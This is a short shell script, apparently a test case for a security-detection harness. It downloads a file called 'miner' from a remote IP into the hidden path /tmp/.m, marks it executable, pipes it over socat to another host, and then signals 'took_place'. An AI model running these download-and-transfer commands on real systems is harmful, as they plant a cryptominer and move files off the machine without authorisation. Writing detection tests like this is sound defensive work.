#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/programs/miner -o /tmp/.m
chmod +x /tmp/.m
socat -u OPEN:/tmp/.m TCP:10.77.0.1:9000
took_place
